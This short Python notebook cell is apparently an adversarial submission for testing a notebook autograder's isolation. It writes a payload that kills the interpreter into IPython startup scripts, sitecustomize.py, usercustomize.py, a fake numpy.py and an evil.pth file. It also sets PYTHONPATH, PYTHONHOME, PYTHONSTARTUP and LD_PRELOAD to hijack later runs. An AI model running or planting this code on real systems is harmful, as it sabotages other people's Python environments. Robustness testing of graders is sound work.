# %%
import os
import pathlib
import tempfile

home = pathlib.Path(os.environ["HOME"])
poison = "import os\nos._exit(9)\n"
for place in (home, pathlib.Path(tempfile.gettempdir()), pathlib.Path.cwd()):
    for name in (".ipython/profile_default/startup/00.py", ".config/matplotlib/matplotlibrc", "sitecustomize.py",
                 "usercustomize.py", "numpy.py", ".local/lib/python3.11/site-packages/evil.pth"):
        try:
            (place / name).parent.mkdir(parents=True, exist_ok=True)
            (place / name).write_text(poison)
        except OSError:
            pass
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="numpy.py", PYTHONHOME="/tmp", LD_PRELOAD="/tmp/x.so")

# %% grade_id="double"
